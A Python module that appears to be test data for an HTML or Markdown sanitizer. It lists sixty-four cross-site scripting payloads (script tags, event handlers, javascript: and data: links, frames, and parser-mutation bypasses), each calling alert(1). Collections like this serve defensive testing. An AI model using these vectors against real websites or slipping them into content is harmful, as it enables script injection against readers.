"""Sixty-four ways in which a text tries to run a script on its reader's machine; each calls alert()."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script src="data:text/javascript,alert(1)"></script>',
    '<script type="module">alert(1)</script>',
    "<script\n>alert(1)</script\n>",
    "甲<!-- --!><script>alert(1)</script>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "- 甲\n\n    <script>alert(1)</script>",
    "| 甲 | 乙 |\n|---|---|\n| <script>alert(1)</script> | 丙 |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "# 甲 <script>alert(1)</script>",
    "# &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<IMG SRC="x" OnErRoR="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>甲</summary>乙</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<object data=x onerror=alert(1)></object>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    '<p onclick="alert(1)">甲</p>',
    "<div onmouseover=alert(1)>甲</div>",
    '<a href="#" onclick=alert(1)>甲</a>',
    '甲 **乙**{: onclick="alert(1)" }',
    '## 甲 {: onmouseover="alert(1)" }',
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>甲</p>",
)
LINKS = (
    "[甲](javascript:alert(1))",
    "[甲](JaVaScRiPt:alert(1))",
    '[甲](#){: href="javascript:alert(1)" }',
    "[甲][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">甲</a>',
    '<a href="java&#10;script:alert(1)">甲</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">甲</a>',
    '<a href=" &#1; javascript:alert(1)">甲</a>',
    '<a href="data:text/html,<script>alert(1)</script>">甲</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">甲</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y="20">甲</text></a></svg>',
    '<math><a xlink:href="javascript:alert(1)">甲</a></math>',
    '<form action="javascript:alert(1)"><button>甲</button></form>',
    '<form><button formaction="javascript:alert(1)">甲</button></form>',
    '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=x width=9 height=9>',
)
FRAMES = (
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "<iframe onload=alert(1)></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></table></mtext></math>',
    "<template><script>alert(1)</script></template><div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    '<base href="data:text/javascript,alert(1)//"><script src="x"></script>',
    '<script id="__config" type="application/json">{"base": ".", "features": [], "search": "data:,alert(1)", "translations": {}}</script>'
    "<script>alert(1)</script>",
)
PAYLOADS = SCRIPTS + HANDLERS + LINKS + FRAMES + MUTATIONS
